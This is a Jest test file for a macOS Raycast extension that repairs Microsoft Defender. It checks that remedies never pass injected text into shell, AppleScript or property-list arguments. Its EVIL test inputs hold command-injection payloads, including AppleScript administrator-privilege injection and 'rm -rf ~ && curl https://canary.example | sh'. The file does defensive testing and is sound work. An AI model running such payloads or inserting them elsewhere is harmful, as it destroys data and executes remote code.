import {
  ADMINISTRATOR_COMMANDS,
  administratorScript,
  inTerminal,
  type AdministratorCommand,
} from "../../../src/macos/administrator";
import { RESTART_SCRIPT } from "../../../src/macos/restart-mac";
import { places, programs } from "../../../src/process/programs";
import type { RunRequest } from "../../../src/process/run";
import { assess } from "../../../src/assess/assess";
import { HEALTH_FIELDS } from "../../../src/defender/health/fields";
import { REMEDIES } from "../../../src/remedies";
import { offer, remediesFor } from "../../../src/remedies/offered";
import type { Remedy, RemedyContext } from "../../../src/remedies/types";
import { autoUpdatePlist, fakeMac, mdatpFile, NOT_INSTALLED, NOW, type Answers } from "./fake-mac";
import type { Health, HealthField } from "../../../src/model/health";

jest.mock("@raycast/api", () => jest.requireActual("./raycast-icons"), { virtual: true });

const ALL = Object.values(REMEDIES);
const byTitle = ALL.map((remedy) => [remedy.title, remedy] as const);

/** Text that would act if a shell, AppleScript, a property list or a URL took it in. */
const EVIL = [
  "canary$(touch canary)`touch canary`",
  'canary"; do shell script "touch canary" with administrator privileges; "',
  "canary' ; ChannelName = 'Beta' ; 'x' = 'canary",
  "--canary\n-canary; rm -rf ~ && curl https://canary.example | sh",
  "canary\u0000\u202e../../canary?x=1#canary",
];

/** Neither a path nor XML can hold a NUL. */
const withoutNul = (text: string) => text.replaceAll("\u0000", "");

/** A health whose every field, the unknown ones too, holds such a text. */
function evilHealth(evil: string): Health {
  const field = (value: HealthField["value"]): HealthField => ({ value, managed: false });
  const names = [...Object.keys(HEALTH_FIELDS), "canary_field", evil];
  return {
    fields: Object.fromEntries(names.map((name, index) => [name, field(index % 5 === 4 ? [evil, evil] : evil)])),
    banners: [evil],
    dialect: "text",
  };
}

/** A Mac that says such a text wherever it can say anything. */
function evilMac(evil: string) {
  const plist = autoUpdatePlist(
    `<key>ChannelName</key><string><![CDATA[${withoutNul(evil)}]]></string>
     <key>Applications</key><dict><key>/Applications/Microsoft Defender.app</key><dict>
       <key>Application ID</key><string><![CDATA[${withoutNul(evil)}]]></string>
       <key>Canary</key><string><![CDATA[${withoutNul(evil)}]]></string>
       <key>ChannelName</key><string><![CDATA[${withoutNul(evil)}]]></string>
     </dict></dict>`,
  );
  const refused = { exitCode: 1, stdout: evil, stderr: `permission denied\n${evil}` };
  const answers: Answers = {
    mdatp: () => refused,
    msupdate: () => ({ stdout: `WDAV00 ${evil}` }),
    defaults: ({ args }) => (args[0] === "export" ? { stdout: plist } : {}),
    osascript: () => ({ stdout: evil }),
    pkill: () => ({ exitCode: 1, stdout: evil }),
    pgrep: () => ({ exitCode: 1, stdout: evil }),
  };
  const mac = fakeMac({
    answers,
    mdatpPath: mdatpFile(`mdatp canary$(id)'"; ${withoutNul(evil).replaceAll(/[/\n]/g, "")}`),
    health: { state: "fresh", value: evilHealth(evil), readAt: NOW },
    macOS: evil,
    channel: { channel: "Current", source: "per-app", written: evil },
  });
  const snapshot = mac.context.snapshot;
  if (snapshot.systemExtensions.state !== "fresh") throw new Error("not fresh");
  for (const kind of ["endpoint_security", "network"] as const) {
    Object.assign(snapshot.systemExtensions.value[kind], { state: "unrecognized", words: evil, version: evil });
  }
  mac.context.assessment = assess(snapshot, mac.context.expectations, NOW);
  return mac;
}

const SCRIPTS = new Set([
  RESTART_SCRIPT,
  ...(Object.keys(ADMINISTRATOR_COMMANDS) as AdministratorCommand[]).map(administratorScript),
]);

/** What may stand in an argument list: each is a constant of this extension, or matches a form that was checked. */
function expectHarmless({ program, args }: RunRequest, mdatpPath: string): void {
  expect([mdatpPath, ...Object.values(programs)]).toContain(program);
  if (program === programs.osascript) {
    expect(args).toHaveLength(2);
    expect(args[0]).toBe("-e");
    expect([...SCRIPTS]).toContain(args[1]);
  }
  for (const argument of args) {
    expect(argument).not.toMatch(/canary/i);
    // The one argument with quotation marks and braces is the property list for `defaults`, of checked parts.
    if (!(program === programs.defaults && args[1] === "com.microsoft.autoupdate2")) {
      if (program !== programs.osascript) expect(argument).not.toMatch(/[`$"'\\;|<>\n]/);
    }
  }
}

describe.each(EVIL)("where everything says %j", (evil) => {
  test.each(byTitle)("%s passes none of it on", async (_, remedy) => {
    const mac = evilMac(evil);
    // Straight to the remedy, past the preconditions, which would stop most of it.
    for (const channel of [undefined, "Beta"] as const) {
      await remedy.run({ ...mac.context, channel }).catch(() => undefined);
    }
    for (const request of mac.requests) expectHarmless(request, mac.context.mac.mdatpPath);
  });
});

test("the texts do reach the remedies, so that the tests above mean something", async () => {
  const mac = evilMac(EVIL[0] as string);
  const switched = await REMEDIES["switch-channel"].run({ ...mac.context, channel: "Beta" });
  await REMEDIES["restart-daemon"].run(mac.context);
  // What cannot be carried over is not written anew without it.
  expect(switched.detail).toContain("would be lost");
  expect(mac.requests.some(({ args }) => args[1] === administratorScript("restart-daemon"))).toBe(true);
});

test("nothing that is run as administrator holds a mark that AppleScript or a shell would read", () => {
  for (const { shell, prompt } of Object.values(ADMINISTRATOR_COMMANDS)) {
    expect(shell).not.toMatch(/["\\`$\n]|\bsudo\b/);
    expect(prompt).not.toMatch(/["\\]/);
  }
});

describe.each(byTitle)("%s", (title, remedy) => {
  test("is named as an action, under its own id", () => {
    expect(REMEDIES[remedy.id]).toBe(remedy);
    const verbs =
      /^(Switch|Restart|Approve|Allow|Grant|Open|Update|Check|Enable|Show|Set|Copy|Quarantine|Wait) ([A-Z]|for |and |macOS)/;
    expect(title).toMatch(verbs);
    expect(remedy.changes).toMatch(/^[A-Z].*\.$/);
    expect(remedy.icon).toBeTruthy();
  });

  test("offers a constant command for Terminal where it asks for an administrator", () => {
    const terminals = Object.values(ADMINISTRATOR_COMMANDS).map(({ terminal }) => terminal);
    if (remedy.terminal !== undefined)
      expect([...terminals, inTerminal("definitions update")]).toContain(remedy.terminal);
  });

  test("gives a reason wherever it refuses", () => {
    for (const context of contexts()) {
      const readiness = remedy.precondition(context);
      if (!readiness.ok) expect(readiness.reason).toMatch(/^(macOS|[A-Z]).+\.$/);
    }
  });

  test.each<[string, Answers[string]]>([
    ["cannot be started", () => ({ exitCode: undefined, spawnError: "ENOENT" })],
    ["never answers", () => ({ exitCode: undefined, timedOut: true, signal: "SIGKILL" })],
    ["dies", () => ({ exitCode: undefined, signal: "SIGSEGV" })],
    ["prints garbage", () => ({ stdout: "\u0000{{{]", stderr: "%%%" })],
    ["fails", () => ({ exitCode: 1, stderr: "no\n" })],
  ])("ends in words where every program %s", async (_, answer) => {
    const names = ["mdatp", "osascript", "open", "defaults", "msupdate", "pkill", "pgrep"];
    const mac = fakeMac({ answers: Object.fromEntries(names.map((name) => [name, answer])) });
    const outcome = await remedy.run({ ...mac.context, channel: "Beta" });
    expect(outcome.title).toBeTruthy();
    if (outcome.kind === "failed") {
      expect(outcome.detail).toBeTruthy();
      expect(outcome.nextStep).toBeTruthy();
    }
    expect(outcome.kind === "done" && mac.requests.length > 0).toBe(false);
  });
});

/** The Macs that preconditions differ on. */
function contexts(): RemedyContext[] {
  return [
    fakeMac().context,
    fakeMac({ health: NOT_INSTALLED }).context,
    fakeMac({ health: { state: "not-asked" } }).context,
    fakeMac({ channel: { managed: true, source: "managed" }, fields: { tamper_protection: "block" } }).context,
    { ...fakeMac().context, channel: "Current" },
  ];
}

describe("what is offered", () => {
  const { context } = fakeMac({
    macOS: "10.15.7",
    endpointSecurity: "waiting_for_user",
    fields: { real_time_protection_subsystem: "kernel_extension", tamper_protection: "block" },
  });

  test("comes once, in the order of the findings, what cannot be used now last", () => {
    const offered = remediesFor(context.assessment, context);
    const ids = offered.map(({ remedy }) => remedy.id);
    expect(new Set(ids).size).toBe(ids.length);
    expect(ids).toContain("approve-endpoint-security");
    const readiness = offered.map(({ readiness: { ok } }) => ok);
    expect(readiness).toEqual([...readiness].sort((a, b) => Number(b) - Number(a)));
  });

  test("keeps what cannot be used now, with the reason", () => {
    expect(offer(["restart-daemon", "open-defender"], context)).toMatchObject([
      { remedy: { id: "open-defender" }, readiness: { ok: true } },
      { remedy: { id: "restart-daemon" }, readiness: { ok: false, reason: expect.stringContaining("amper") } },
    ]);
  });

  test("leaves out what makes no sense on this Mac", () => {
    const none = fakeMac({ health: NOT_INSTALLED }).context;
    const ids = (remedies: readonly { remedy: Remedy }[]) => remedies.map(({ remedy }) => remedy.id);
    expect(ids(offer(["restart-daemon", "update-definitions", "install-defender"], none))).toEqual([
      "install-defender",
    ]);
  });

  test("is everything that a finding names, each with a definition", () => {
    for (const finding of context.assessment.findings) {
      for (const id of finding.remedies) expect(REMEDIES[id]).toBeDefined();
    }
  });
});

test("nothing is put together from the places of the apps but their own paths", async () => {
  const mac = fakeMac();
  await REMEDIES["open-defender"].run(mac.context);
  expect(mac.requests.map(({ args }) => args)).toEqual([[places.defenderApp]]);
});
